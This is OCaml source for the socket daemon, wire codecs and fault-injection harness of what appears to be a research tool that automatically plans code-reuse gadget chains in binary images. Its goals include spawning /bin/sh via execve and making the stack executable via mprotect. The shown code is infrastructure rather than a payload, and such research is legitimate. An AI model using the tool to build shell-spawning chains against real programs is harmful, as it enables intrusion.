  rq_time_budget : float;
  rq_branch_cap : int;
  rq_goal_cap : int;
  rq_max_steps : int;
  rq_jobs : int;               (* within-stage domains (default 1) *)
}

let default_request image =
  let c = Planner.default_config in
  { rq_image = image;
    rq_goal = "execve";
    rq_budget_s = 0.;
    rq_max_plans = c.Planner.max_plans;
    rq_node_budget = c.Planner.node_budget;
    rq_time_budget = c.Planner.time_budget;
    rq_branch_cap = c.Planner.branch_cap;
    rq_goal_cap = c.Planner.goal_cap;
    rq_max_steps = c.Planner.max_steps;
    rq_jobs = 1 }

type report = {
  sr_pool : int;
  sr_chains : (string * string) list;  (* (chain_set_key, describe) *)
  sr_rungs : string list;
  sr_budget_hits : string list;
  sr_quarantined : (string * int) list;
  sr_counters : (string * int) list;   (* jobs/temperature-invariant *)
}

let goal_of_name = function
  | "execve" -> Goal.Execve "/bin/sh"
  | "mprotect" -> Goal.Mprotect (Gp_emu.Machine.stack_base, 0x1000L, 7L)
  | "mmap" -> Goal.Mmap (0L, 0x1000L, 7L)
  | s -> invalid_arg ("unknown goal: " ^ s)

let planner_config_of rq =
  { Planner.max_plans = rq.rq_max_plans;
    node_budget = rq.rq_node_budget;
    time_budget = rq.rq_time_budget;
    branch_cap = rq.rq_branch_cap;
    goal_cap = rq.rq_goal_cap;
    max_steps = rq.rq_max_steps }

(* The jobs/temperature-invariant tallies, same selection discipline as
   the sweep payloads ([Experiments.resume_counters] — duplicated here
   because Experiments sits above Serve in the library): cache and
   summary-hit counters are temperature, store quarantine labels are
   legitimately different between a resident and a cold run. *)
let invariant_counters (o : Api.outcome) =
  let st = o.Api.stats in
  [ ("plans_found", st.Api.plans_found);
    ("chains_built", st.Api.chains_built);
    ("chains_validated", st.Api.chains_validated);
    ("plan_expanded", st.Api.plan_expanded);
    ("plan_peak_queue", st.Api.plan_peak_queue);
    ("plan_inst_hits", st.Api.plan_inst_hits);
    ("plan_cand_hits", st.Api.plan_cand_hits);
    ("plan_discarded", st.Api.plan_discarded);
    ("validate_faults", st.Api.validate_faults);
    ("validate_timeouts", st.Api.validate_timeouts);
    (* refutations are counted per probe answered, so the tally is
       warm/cold-invariant like the verdicts it mirrors; the fp store
       hit/miss split is temperature and stays out (DESIGN.md §17) *)
    ("fp_refuted", st.Api.fp_refuted) ]
  @ List.filter_map
      (fun (l, n) ->
        if l = "store" || l = "store-locked" || l = "wal-torn" then None
        else Some ("q:" ^ l, n))
      st.Api.quarantined

let report_of_outcome (o : Api.outcome) : report =
  { sr_pool = o.Api.stats.Api.pool_size;
    sr_chains =
      List.map (fun c -> (Payload.chain_set_key c, Payload.describe c)) o.Api.chains;
    sr_rungs = List.map Api.rung_name o.Api.rungs;
    sr_budget_hits = o.Api.stats.Api.budget_hits;
    sr_quarantined =
      List.filter
        (fun (l, _) -> l <> "store" && l <> "store-locked" && l <> "wal-torn")
        o.Api.stats.Api.quarantined;
    sr_counters = invariant_counters o }

(* ----- binary codecs (Frame payload bodies) ----- *)

let f64 b f = B.i64 b (Int64.bits_of_float f)
let gf64 s pos = Int64.float_of_bits (B.gi64 s pos)

let image_encode b (img : Gp_util.Image.t) =
  B.i64 b img.Gp_util.Image.code_base;
  B.str b (Bytes.to_string img.Gp_util.Image.code);
  B.i64 b img.Gp_util.Image.data_base;
  B.str b (Bytes.to_string img.Gp_util.Image.data);
  B.i64 b img.Gp_util.Image.entry;
  B.int_ b (List.length img.Gp_util.Image.symbols);
  List.iter
    (fun (s : Gp_util.Image.symbol) ->
      B.str b s.Gp_util.Image.sym_name;
      B.i64 b s.Gp_util.Image.sym_addr;
      B.int_ b s.Gp_util.Image.sym_size)
    img.Gp_util.Image.symbols

let image_decode s pos : Gp_util.Image.t =
  let code_base = B.gi64 s pos in
  let code = Bytes.of_string (B.gstr s pos) in
  let data_base = B.gi64 s pos in
  let data = Bytes.of_string (B.gstr s pos) in
  let entry = B.gi64 s pos in
  let symbols =
    List.init (B.gint s pos) (fun _ ->
        let sym_name = B.gstr s pos in
        let sym_addr = B.gi64 s pos in
        let sym_size = B.gint s pos in
        { Gp_util.Image.sym_name; sym_addr; sym_size })
  in
  Gp_util.Image.create ~code_base ~data_base ~symbols ~entry ~code ~data ()

let request_encode rq =
  let b = Buffer.create (Bytes.length rq.rq_image.Gp_util.Image.code + 256) in
  image_encode b rq.rq_image;
  B.str b rq.rq_goal;
  f64 b rq.rq_budget_s;
  B.int_ b rq.rq_max_plans;
  B.int_ b rq.rq_node_budget;
  f64 b rq.rq_time_budget;
  B.int_ b rq.rq_branch_cap;
  B.int_ b rq.rq_goal_cap;
  B.int_ b rq.rq_max_steps;
  B.int_ b rq.rq_jobs;
  Buffer.contents b

let request_decode s pos =
  let rq_image = image_decode s pos in
  let rq_goal = B.gstr s pos in
  let rq_budget_s = gf64 s pos in
  let rq_max_plans = B.gint s pos in
  let rq_node_budget = B.gint s pos in
  let rq_time_budget = gf64 s pos in
  let rq_branch_cap = B.gint s pos in
  let rq_goal_cap = B.gint s pos in
  let rq_max_steps = B.gint s pos in
  let rq_jobs = B.gint s pos in
  { rq_image; rq_goal; rq_budget_s; rq_max_plans; rq_node_budget;
    rq_time_budget; rq_branch_cap; rq_goal_cap; rq_max_steps; rq_jobs }

let pairs_encode b l =
  B.int_ b (List.length l);
  List.iter
    (fun (k, v) ->
      B.str b k;
      B.int_ b v)
    l

let pairs_decode s pos =
  List.init (B.gint s pos) (fun _ ->
      let k = B.gstr s pos in
      (k, B.gint s pos))

let report_encode r =
  let b = Buffer.create 512 in
  B.int_ b r.sr_pool;
  B.int_ b (List.length r.sr_chains);
  List.iter
    (fun (k, d) ->
      B.str b k;
      B.str b d)
    r.sr_chains;
  B.int_ b (List.length r.sr_rungs);
  List.iter (B.str b) r.sr_rungs;
  B.int_ b (List.length r.sr_budget_hits);
  List.iter (B.str b) r.sr_budget_hits;
  pairs_encode b r.sr_quarantined;
  pairs_encode b r.sr_counters;
  Buffer.contents b

let report_decode s pos =
  let sr_pool = B.gint s pos in
  let sr_chains =
    List.init (B.gint s pos) (fun _ ->
        let k = B.gstr s pos in
        (k, B.gstr s pos))
  in
  let sr_rungs = List.init (B.gint s pos) (fun _ -> B.gstr s pos) in
  let sr_budget_hits = List.init (B.gint s pos) (fun _ -> B.gstr s pos) in
  let sr_quarantined = pairs_decode s pos in
  let sr_counters = pairs_decode s pos in
  { sr_pool; sr_chains; sr_rungs; sr_budget_hits; sr_quarantined; sr_counters }

(* ----- wire messages ----- *)

(* One frame payload = one message: a tag byte then the body.  Version
   skew is handled at the frame layer (Frame.format_version); unknown
   tags and undecodable bodies are `Checksum-class frame faults — the
   bytes arrived intact but do not mean anything. *)

type daemon_stats = {
  ds_served : int;                      (* analyses completed *)
  ds_faults : (string * int) list;      (* frame-fault ledger *)
  ds_checkpoints : int;                 (* WAL checkpoints written *)
  ds_incr_size : int;                   (* resident summary entries *)
  ds_memo_entries : int;                (* resident solver-memo entries *)
  ds_fp_hits : int;                     (* fingerprint store hits (temperature) *)
  ds_fp_misses : int;
  ds_fp_refuted : int;                  (* probes refuted from fingerprints *)
  ds_mode : string;                     (* "journaling" | "read-only: _" | "memory" *)
}

type msg =
  | Analyze of request
  | Stats
  | Shutdown

type reply =
  | Report of report
  | Stats_reply of daemon_stats
  | Shutdown_ack
  | Err_reply of string * string  (* Fail label, detail *)

let msg_encode = function
  | Analyze rq ->
    let b = Buffer.create 256 in
    B.u8 b 1;
    Buffer.add_string b (request_encode rq);
    Buffer.contents b
  | Stats ->
    let b = Buffer.create 4 in
    B.u8 b 2;
    Buffer.contents b
  | Shutdown ->
    let b = Buffer.create 4 in
    B.u8 b 3;
    Buffer.contents b

let msg_decode s =
  let pos = ref 0 in
  match B.gu8 s pos with
  | 1 -> Analyze (request_decode s pos)
  | 2 -> Stats
  | 3 -> Shutdown
  | _ -> raise Frame.Truncated

let reply_encode = function
  | Report r ->
    let b = Buffer.create 512 in
    B.u8 b 1;
    Buffer.add_string b (report_encode r);
    Buffer.contents b
  | Stats_reply ds ->
    let b = Buffer.create 128 in
    B.u8 b 2;
    B.int_ b ds.ds_served;
    pairs_encode b ds.ds_faults;
    B.int_ b ds.ds_checkpoints;
    B.int_ b ds.ds_incr_size;
    B.int_ b ds.ds_memo_entries;
    B.int_ b ds.ds_fp_hits;
    B.int_ b ds.ds_fp_misses;
    B.int_ b ds.ds_fp_refuted;
    B.str b ds.ds_mode;
    Buffer.contents b
  | Shutdown_ack ->
    let b = Buffer.create 4 in
    B.u8 b 3;
    Buffer.contents b
  | Err_reply (label, detail) ->
    let b = Buffer.create 64 in
    B.u8 b 9;
    B.str b label;
    B.str b detail;
    Buffer.contents b

let reply_decode s =
  let pos = ref 0 in
  match B.gu8 s pos with
  | 1 -> Report (report_decode s pos)
  | 2 ->
    let ds_served = B.gint s pos in
    let ds_faults = pairs_decode s pos in
    let ds_checkpoints = B.gint s pos in
    let ds_incr_size = B.gint s pos in
    let ds_memo_entries = B.gint s pos in
    let ds_fp_hits = B.gint s pos in
    let ds_fp_misses = B.gint s pos in
    let ds_fp_refuted = B.gint s pos in
    let ds_mode = B.gstr s pos in
    Stats_reply
      { ds_served; ds_faults; ds_checkpoints; ds_incr_size; ds_memo_entries;
        ds_fp_hits; ds_fp_misses; ds_fp_refuted; ds_mode }
  | 3 -> Shutdown_ack
  | 9 ->
    let label = B.gstr s pos in
    Err_reply (label, B.gstr s pos)
  | _ -> raise Frame.Truncated

(* ----- request execution ----- *)

(* Inline (CLI-path) execution: exactly what `gadget_planner plan`
   does, with a request-local gadget id source.  This is both the
   differential reference and the process-per-request body of the
   serve bench ([cache_dir] = the CLI's --cache-dir: load the store
   before, save after — the warm-but-cold-process deployment the
   daemon replaces). *)
let handle ?cache_dir (rq : request) : report =
  let budget =
    if rq.rq_budget_s > 0. then
      Some (Budget.create ~label:"serve" ~seconds:rq.rq_budget_s ())
    else None
  in
  report_of_outcome
    (Api.run ?budget ?cache_dir
       ~planner_config:(planner_config_of rq)
       ~jobs:rq.rq_jobs
       ~ids:(Gadget.local_ids ())
       rq.rq_image (goal_of_name rq.rq_goal))

(* The same computation cut along the [Api] stage seams as a
   [Sched.step] chain, so the Service pool can interleave one request's
   plan rung with another's extract: stage 1, stage 2, then the
   [Api.run] degradation ladder one rung per step — same budget
   slices, same proceed condition, same lazily deduped degraded pool.
   Bit-identity with {!handle} is asserted by the serve suite at
   jobs 1 and 4. *)
let request_steps (rq : request) : report Sched.step =
  let goal = goal_of_name rq.rq_goal in
  let planner_config = planner_config_of rq in
  let root =
    if rq.rq_budget_s > 0. then
      Budget.create ~label:"serve" ~seconds:rq.rq_budget_s ()
    else Budget.unlimited ()
  in
  Sched.Next
    ( "extract",
      fun () ->
        let ex =
          Api.stage_extract ~budget:root ~jobs:rq.rq_jobs
            ~ids:(Gadget.local_ids ()) rq.rq_image
        in
        Sched.Next
          ( "subsume",
            fun () ->
              let a_full, harvested =
                Api.stage_subsume ~budget:root ~jobs:rq.rq_jobs ex
              in
              let a_degraded = lazy (Api.dedup_analysis a_full harvested) in
              let rec ladder tried result = function
                | [] -> finish tried result
                | rung :: rest ->
                  let proceed =
                    match result with
                    | None -> true
                    | Some o ->
                      o.Api.chains = [] && not (Budget.exhausted root)
                  in
                  if not proceed then finish tried result
                  else
                    Sched.Next
                      ( "rung:" ^ Api.rung_name rung,
                        fun () ->
                          let a =
                            if rung = Api.Full then a_full
                            else Lazy.force a_degraded
                          in
                          let rb =
                            Budget.sub root ~label:(Api.rung_name rung)
                              ~fraction:0.6 ()
                          in
                          let o =
                            Api.run_with_analysis
                              ~planner_config:
                                (Api.rung_planner_config planner_config rung)
                              ~budget:rb ~jobs:rq.rq_jobs a goal
                          in
                          ladder (rung :: tried) (Some o) rest )
              and finish tried result =
                match result with
                | Some o ->
                  Sched.Finished
                    (Ok
                       (report_of_outcome
                          { o with Api.rungs = List.rev tried }))
                | None -> assert false
              in
              ladder [] None
                [ Api.Full; Api.Dedup_only; Api.Wider_branch;
                  Api.Relaxed_steps ] ) )

(* ----- socket plumbing ----- *)

let write_all fd s =
  let n = String.length s in
  let b = Bytes.unsafe_of_string s in
  let rec go off =
    if off < n then
      match Unix.write fd b off (n - off) with
      | w -> go (off + w)
      | exception Unix.Unix_error (Unix.EINTR, _, _) -> go off
  in
  go 0

(* ----- client ----- *)

module Client = struct
  type t = {
    cl_fd : Unix.file_descr;
    cl_buf : Buffer.t;          (* read accumulator across frames *)
    mutable cl_closed : bool;
  }

  let connect path =
    let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
    match Unix.connect fd (Unix.ADDR_UNIX path) with
    | () -> Ok { cl_fd = fd; cl_buf = Buffer.create 4096; cl_closed = false }
    | exception Unix.Unix_error (e, fn, _) ->
      Unix.close fd;
      Error (fn ^ ": " ^ Unix.error_message e)

  let close t =
    if not t.cl_closed then begin
      t.cl_closed <- true;
      try Unix.close t.cl_fd with Unix.Unix_error _ -> ()
    end

  (* Send one message as a frame, applying any installed wire-fault
     schedule ([Frame.mangle]); a mangled send that must also tear the
     connection closes it and reports which fault fired. *)
  let send t m =
    let payload = msg_encode m in
    let frame = Frame.encode payload in
    let bytes_, slam = Frame.mangle ~payload frame in
    match write_all t.cl_fd bytes_ with
    | () ->
      if slam then begin
        close t;
        Error `Slammed
      end
      else Ok ()
    | exception Unix.Unix_error (e, fn, _) ->
      close t;
      Error (`Io (fn ^ ": " ^ Unix.error_message e))

  (* Read until one whole frame is buffered; returns its payload. *)
  let recv t =
    let chunk = Bytes.create 65536 in
    let rec go () =
      match
        Frame.parse ~off:0 ~len:(Buffer.length t.cl_buf)
          (Buffer.contents t.cl_buf)
      with
      | Frame.Complete (payload, used) ->
        let rest =
          Buffer.sub t.cl_buf used (Buffer.length t.cl_buf - used)
        in
        Buffer.clear t.cl_buf;
        Buffer.add_string t.cl_buf rest;
        Ok payload
      | Frame.Malformed e -> Error ("reply frame: " ^ Frame.error_reason e)
      | Frame.Incomplete -> (
        match Unix.read t.cl_fd chunk 0 (Bytes.length chunk) with
        | 0 -> Error "connection closed by daemon"
        | n ->
          Buffer.add_subbytes t.cl_buf chunk 0 n;
          go ()
        | exception Unix.Unix_error (e, fn, _) ->
          Error (fn ^ ": " ^ Unix.error_message e))
    in
    go ()

  let roundtrip t m =
    match send t m with
    | Error `Slammed ->
      (* the injected fault tore our own connection: the daemon never
         saw a complete request, so there is nothing to read *)
      Error (Fail.Frame_fault (`Disconnect, "injected client fault"))
    | Error (`Io why) -> Error (Fail.Frame_fault (`Disconnect, why))
    | Ok () -> (
      match recv t with
      | Error why -> Error (Fail.Frame_fault (`Torn, why))
      | Ok payload -> (
        match reply_decode payload with
        | r -> Ok r
        | exception Frame.Truncated ->
          Error (Fail.Frame_fault (`Checksum, "undecodable reply body"))))

  let submit t rq =
    match roundtrip t (Analyze rq) with
    | Ok (Report r) -> Ok r
    | Ok (Err_reply (label, detail)) ->
      Error (Fail.Frame_fault (`Checksum, label ^ ": " ^ detail))
    | Ok _ -> Error (Fail.Frame_fault (`Checksum, "unexpected reply kind"))
    | Error f -> Error f

  let stats t =
    match roundtrip t Stats with
    | Ok (Stats_reply ds) -> Ok ds
    | Ok _ -> Error (Fail.Frame_fault (`Checksum, "unexpected reply kind"))
    | Error f -> Error f

  let shutdown t =
    match roundtrip t Shutdown with
    | Ok Shutdown_ack -> Ok ()
    | Ok _ -> Error (Fail.Frame_fault (`Checksum, "unexpected reply kind"))
    | Error f -> Error f
end

(* ----- daemon ----- *)

type config = {
  d_socket : string;
  d_cache_dir : string option;
  d_jobs : int;                (* Service pool workers *)
  d_checkpoint_every : int;    (* checkpoint after this many analyses *)
  d_checkpoint_s : float;      (* ... or this many seconds dirty *)
}

let default_config ~socket =
  { d_socket = socket;
    d_cache_dir = None;
    d_jobs = 4;
    d_checkpoint_every = 8;
    d_checkpoint_s = 5. }

type summary = {
  sm_served : int;
  sm_faults : (string * int) list;
  sm_checkpoints : int;
  sm_fp_hits : int;
  sm_fp_misses : int;
  sm_fp_refuted : int;
  sm_mode : string;
}

(* Per-connection state.  The main domain owns reads and parsing;
   worker domains write replies under [cn_wm].  [cn_inflight] counts
   analyses still running for this connection so an EOF (client done
   sending) does not close the fd out from under a worker's reply
   write — a genuinely vanished client surfaces as EPIPE there and is
   quarantined as a `Disconnect frame fault. *)
type conn = {
  cn_fd : Unix.file_descr;
  cn_buf : Buffer.t;
  cn_wm : Mutex.t;
  mutable cn_open : bool;      (* fd still valid (main domain decides) *)
  mutable cn_eof : bool;
  cn_inflight : int Atomic.t;
}

type daemon = {
  dm_cfg : config;
  dm_sv : Sched.Service.t;
  dm_mode : string;
  mutable dm_conns : conn list;
  mutable dm_running : bool;
  dm_served : int Atomic.t;
  dm_faults : Fail.tally;
  dm_faults_m : Mutex.t;
  mutable dm_checkpoints : int;
  mutable dm_ckpt_mark : int;   (* dm_served at the last checkpoint *)
  mutable dm_ckpt_time : float;
}

let quarantine d f =
  Mutex.protect d.dm_faults_m (fun () -> Fail.tally_add d.dm_faults f)

(* Main-domain only.  Closing is serialized with worker reply writes
   under [cn_wm]: a worker either sees [cn_open = false] (and
   quarantines a disconnect) or finishes its write before the fd — a
   number the kernel will happily reuse — goes away. *)
let conn_close d c =
  Mutex.protect c.cn_wm (fun () ->
      if c.cn_open then begin
        c.cn_open <- false;
        try Unix.close c.cn_fd with Unix.Unix_error _ -> ()
      end);
  d.dm_conns <- List.filter (fun c' -> c' != c) d.dm_conns

(* Reply writes happen on worker domains; the write mutex serializes
   them per connection, and a vanished peer (EPIPE/reset/fd already
   closed) is the `Disconnect fault. *)
let send_reply d c reply =
  let frame = Frame.encode (reply_encode reply) in
  let ok =
    Mutex.protect c.cn_wm (fun () ->
        if not c.cn_open then Error "connection already closed"
        else
          match write_all c.cn_fd frame with
          | () -> Ok ()
          | exception Unix.Unix_error (e, fn, _) ->
            Error (fn ^ ": " ^ Unix.error_message e))
  in
  match ok with
  | Ok () -> ()
  | Error why -> quarantine d (Fail.Frame_fault (`Disconnect, why))

let dispatch d c payload =
  match msg_decode payload with
  | exception _ ->
    (* checksummed bytes that don't decode: protocol skew or a fuzzed
       client.  Reply (our write side still works), then drop the
       connection — after a body we cannot parse, trusting the stream
       further would be guessing. *)
    let f = Fail.Frame_fault (`Checksum, "undecodable request body") in
    quarantine d f;
    send_reply d c (Err_reply (Fail.label f, Fail.to_string f));
    conn_close d c
  | Stats ->
    send_reply d c
      (Stats_reply
         { ds_served = Atomic.get d.dm_served;
           ds_faults =
             Mutex.protect d.dm_faults_m (fun () ->
                 Fail.tally_list d.dm_faults);
           ds_checkpoints = d.dm_checkpoints;
           ds_incr_size = Incr.size ();
           ds_memo_entries = Gp_smt.Solver.memo_count ();
           ds_fp_hits = fst (Incr.fp_store_stats ());
           ds_fp_misses = snd (Incr.fp_store_stats ());
           ds_fp_refuted = Gp_smt.Fpeval.refutations ();
           ds_mode = d.dm_mode })
  | Shutdown ->
    send_reply d c Shutdown_ack;
    d.dm_running <- false
  | Analyze rq ->
    (match goal_of_name rq.rq_goal with
    | exception Invalid_argument why ->
      let f = Fail.Frame_fault (`Checksum, why) in
      quarantine d f;
      send_reply d c (Err_reply (Fail.label f, Fail.to_string f))
    | _ ->
      Atomic.incr c.cn_inflight;
      (* each stage resubmits its continuation, so the pool interleaves
         stages of concurrent requests (owner-LIFO keeps a request
         flowing; thieves take other requests' opening stages) *)
      let rec drive step =
        match step with
        | Sched.Finished (Ok report) -> finish (Report report)
        | Sched.Finished (Error f) ->
          finish (Err_reply (Fail.label f, Fail.to_string f))
        | Sched.Next (_stage, k) ->
          Sched.Service.submit d.dm_sv (fun () ->
              match k () with
              | next -> drive next
              | exception Budget.Exhausted (label, reason) ->
                drive
                  (Sched.Finished
                     (Error
                        (Fail.Budget_exhausted
                           ( label,
                             match reason with
                             | Budget.Deadline -> `Time
                             | Budget.Fuel -> `Fuel )))))
      and finish reply =
        send_reply d c reply;
        Atomic.decr c.cn_inflight;
        Atomic.incr d.dm_served
      in
      drive (request_steps rq))

(* Drain every complete frame in the connection's buffer. *)
let rec parse_conn d c =
  if c.cn_open then
    match
      Frame.parse ~off:0 ~len:(Buffer.length c.cn_buf)
        (Buffer.contents c.cn_buf)
    with
    | Frame.Complete (payload, used) ->
      let rest = Buffer.sub c.cn_buf used (Buffer.length c.cn_buf - used) in
      Buffer.clear c.cn_buf;
      Buffer.add_string c.cn_buf rest;
      dispatch d c payload;
      parse_conn d c
    | Frame.Incomplete -> ()
    | Frame.Malformed e ->
      (* damaged on the wire (Faultsim's Flip_sum, or a real flipped
         bit): quarantine, tell the peer, drop the connection.  The
         request never decoded, so no resident state saw it. *)
      let f = Fail.Frame_fault (`Checksum, Frame.error_reason e) in
      quarantine d f;
      send_reply d c (Err_reply (Fail.label f, Fail.to_string f));
      conn_close d c

let read_conn d c =
  let chunk = Bytes.create 65536 in
  match Unix.read c.cn_fd chunk 0 (Bytes.length chunk) with
  | 0 ->
    c.cn_eof <- true;
    if Buffer.length c.cn_buf > 0 then begin
      (* EOF mid-frame: the peer died between writing the length and
         the payload (Faultsim's Torn_len / Torn_body) *)
      quarantine d
        (Fail.Frame_fault
           ( `Torn,
             Printf.sprintf "connection closed with %d buffered byte(s) mid-frame"
               (Buffer.length c.cn_buf) ));
      Buffer.clear c.cn_buf
    end;
    if Atomic.get c.cn_inflight = 0 then conn_close d c
  | n ->
    Buffer.add_subbytes c.cn_buf chunk 0 n;
    parse_conn d c
  | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK), _, _) -> ()
  | exception Unix.Unix_error (e, fn, _) ->
    quarantine d
      (Fail.Frame_fault (`Disconnect, fn ^ ": " ^ Unix.error_message e));
    if Atomic.get c.cn_inflight = 0 then conn_close d c else c.cn_eof <- true

let maybe_checkpoint d =
  if Incr.journaling () then begin
    let served = Atomic.get d.dm_served in
    let dirty = served > d.dm_ckpt_mark in
    let due_count = served - d.dm_ckpt_mark >= d.dm_cfg.d_checkpoint_every in
    let due_time =
      dirty && Unix.gettimeofday () -. d.dm_ckpt_time >= d.dm_cfg.d_checkpoint_s
    in
    if due_count || due_time then begin
      (* [Faultsim.Crashed] from the armed wal-append point escapes
         here, through [serve]'s abandon teardown — the daemon's crash
         story is the sweep's crash story *)
      ignore (Incr.journal_checkpoint ());
      d.dm_checkpoints <- d.dm_checkpoints + 1;
      d.dm_ckpt_mark <- served;
      d.dm_ckpt_time <- Unix.gettimeofday ()
    end
  end

let serve (cfg : config) : summary =
  (* load once, stay resident: journal mode keeps the dir's advisory
     lock for the daemon's whole life, so concurrent CLI runs demote to
     read-only cleanly (Incr.save refuses the held lock) *)
  let mode =
    match cfg.d_cache_dir with
    | None -> "memory"
    | Some dir -> (
      match (Incr.journal_open ~dir).Incr.jo_mode with
      | `Journaling -> "journaling"
      | `Read_only why -> "read-only: " ^ why)
  in
  let lsock = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  (try Unix.unlink cfg.d_socket with Unix.Unix_error _ -> ());
  Unix.bind lsock (Unix.ADDR_UNIX cfg.d_socket);
  Unix.listen lsock 64;
  (* worker domains write replies to sockets whose peer may be gone;
     that must be EPIPE (quarantined), not process death *)
  let saved_sigpipe =
    try Some (Sys.signal Sys.sigpipe Sys.Signal_ignore)
    with Invalid_argument _ -> None
  in
  let d =
    { dm_cfg = cfg;
      dm_sv = Sched.Service.start ~jobs:cfg.d_jobs;
      dm_mode = mode;
      dm_conns = [];
      dm_running = true;
      dm_served = Atomic.make 0;
      dm_faults = Fail.tally_create ();
      dm_faults_m = Mutex.create ();
      dm_checkpoints = 0;
      dm_ckpt_mark = 0;
      dm_ckpt_time = Unix.gettimeofday () }
  in
  let teardown ~crashed =
    (try Unix.close lsock with Unix.Unix_error _ -> ());
    List.iter (fun c -> conn_close d c) d.dm_conns;
    (try Unix.unlink cfg.d_socket with Unix.Unix_error _ -> ());
    (match saved_sigpipe with
    | Some b -> (try Sys.set_signal Sys.sigpipe b with Invalid_argument _ -> ())
    | None -> ());
    if Incr.journaling () then
      if crashed then Incr.journal_abandon ()
      else ignore (Incr.journal_close ())
  in
  match
    while d.dm_running do
      (* fatal worker exceptions (Crashed, handler bugs) re-raise here
         on the main domain, where the teardown lives *)
      Sched.Service.check d.dm_sv;
      let rds =
        lsock :: List.filter_map
                   (fun c -> if c.cn_open && not c.cn_eof then Some c.cn_fd else None)
                   d.dm_conns
      in
      let ready, _, _ =
        try Unix.select rds [] [] 0.05
        with Unix.Unix_error (Unix.EINTR, _, _) -> ([], [], [])
      in
      List.iter
        (fun fd ->
          if fd = lsock then begin
            match Unix.accept lsock with
            | cfd, _ ->
              d.dm_conns <-
                { cn_fd = cfd;
                  cn_buf = Buffer.create 4096;
                  cn_wm = Mutex.create ();
                  cn_open = true;
                  cn_eof = false;
                  cn_inflight = Atomic.make 0 }
                :: d.dm_conns
            | exception Unix.Unix_error _ -> ()
          end
          else
            match List.find_opt (fun c -> c.cn_fd = fd && c.cn_open) d.dm_conns with
            | Some c -> read_conn d c
            | None -> ())
        ready;
      (* close connections whose peer is gone and whose last reply has
         been written *)
      List.iter
        (fun c ->
          if c.cn_eof && Atomic.get c.cn_inflight = 0 then conn_close d c)
        d.dm_conns;
      maybe_checkpoint d
    done;
    (* graceful shutdown: drain in-flight analyses (their replies still
       go out), then stop the pool and compact the journal *)
    let rec drain () =
      Sched.Service.check d.dm_sv;
      if Sched.Service.pending d.dm_sv > 0 then begin
        Unix.sleepf 0.002;
        drain ()
      end
    in
    drain ();
    Sched.Service.stop d.dm_sv
  with
  | () ->
    teardown ~crashed:false;
    let fp_hits, fp_misses = Incr.fp_store_stats () in
    { sm_served = Atomic.get d.dm_served;
      sm_faults =
        Mutex.protect d.dm_faults_m (fun () -> Fail.tally_list d.dm_faults);
      sm_checkpoints = d.dm_checkpoints;
      sm_fp_hits = fp_hits;
      sm_fp_misses = fp_misses;
      sm_fp_refuted = Gp_smt.Fpeval.refutations ();
      sm_mode = mode }
  | exception e ->
    (* simulated process death or a fatal bug: tear down WITHOUT
       flushing (abandon), exactly like a crashed sweep, and let the
       exception keep unwinding *)
    teardown ~crashed:true;
    raise e
