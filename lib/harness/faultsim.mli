(** Deterministic fault injection (DESIGN.md "Failure model & budgets").

    Drives the chaos hooks the low-level stages expose
    ([Extract.chaos_decode], [Solver.chaos_unknown],
    [Machine.chaos_fuse]) plus the pluggable {!Gp_core.Budget} clock,
    all from seeded splitmix64 streams — a whole fault schedule is
    reproducible from one integer.  Used by [test_resilience] to prove
    every degradation path terminates with a well-formed outcome. *)

type config = {
  seed : int;
  decode_rate : float;
      (** per harvest start offset: treated as undecodable *)
  solver_rate : float;
      (** per solver query: answered [Unknown] unexamined *)
  mem_rate : float;
      (** per emulator run: arms a mid-execution memory fault *)
  clock_skip_rate : float;
      (** per clock read: time jumps forward [clock_skip_s] seconds *)
  clock_skip_s : float;
  frame_rate : float;
      (** per daemon wire frame sent: the frame is damaged on the way
          out — torn length prefix, torn body, corrupted checksum, or a
          clean send followed by a client hangup, the mode itself a
          keyed draw.  Exercises the {!Serve} quarantine paths. *)
}

val disabled : config
(** All rates zero — installing it is a no-op. *)

val uniform : ?seed:int -> float -> config
(** Same rate across decode/solver/memory; no clock skips. *)

val corrupt_file : ?seed:int -> rate:float -> string -> int
(** Flip bits in an existing file, one keyed Bernoulli decision per byte
    (deterministic from [seed]; the nonzero XOR mask is keyed too).
    Returns the number of bytes flipped — possibly 0 at tiny rates.
    Used to prove the incremental store's checksums demote a damaged
    file to a cold run (DESIGN.md §11). *)

val with_faults : config -> (unit -> 'a) -> 'a
(** Run the thunk with the fault schedule installed; every hook (and the
    clock) is restored on the way out, exception or not.  Each fault
    class draws from its own stream, so raising one rate does not shift
    another class's schedule.

    Hooks that fire from worker domains (decode, solver, and — since
    validation joined the goal portfolio — the emulator fuse via
    [Machine.chaos_fuse_keyed]) use KEYED schedules: the decision is a
    pure function of (seed, item), so the injected fault set is
    identical under any job count.  The streamed [Machine.chaos_fuse]
    stays installed for sequential direct-run sites. *)

(** {1 Crash-point injection (DESIGN.md §13)} *)

exception Crashed of string
(** Simulated process death at a named durability point.  Raised from
    the [Store.crash_point] hook; nothing in the tree catches it
    except the experiment driving the injection. *)

val with_crash_at :
  ?hits:int -> point:string -> (unit -> 'a) -> ('a, string) result
(** Arm a crash at the [hits]-th firing (1-based, default 1) of the
    named point ("wal-append", "save-rename", "mid-stage").  [Error
    point] if the crash fired; [Ok v] if the run outlived the fuse.
    After a crash, tear state down with the [abandon] entry points
    ([Incr.journal_abandon], [Runner.Manifest.abandon]) so fds drop
    WITHOUT flushing, exactly like a real kill.  The previous hook is
    chained and restored. *)

val truncate_file : k:int -> string -> unit
(** Torn-write simulator: keep only the first [k] bytes of the file
    (clamped to its length) — the complement of {!corrupt_file} for
    the WAL's valid-prefix recovery path. *)
