(* Shared compile+analyze plumbing for the experiments.

   One [build] per (program, obfuscation config) gives every tool the
   same image and — for the semantic tools — the same harvested gadget
   pool, so comparisons measure strategy, not extraction variance. *)

type built = {
  entry : Gp_corpus.Programs.entry;
  config_name : string;
  image : Gp_util.Image.t;
  analysis : Gp_core.Api.analysis;
}

let obf_configs =
  [ ("original", Gp_obf.Obf.none);
    ("llvm-obf", Gp_obf.Obf.ollvm);
    ("tigress", Gp_obf.Obf.tigress) ]

let build ?(config_name = "original") ?(cfg = Gp_obf.Obf.none) ?budget ?jobs
    ?cache_dir (entry : Gp_corpus.Programs.entry) : built =
  let image =
    Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform cfg)
      entry.Gp_corpus.Programs.source
  in
  let analysis = Gp_core.Api.analyze ?budget ?jobs ?cache_dir image in
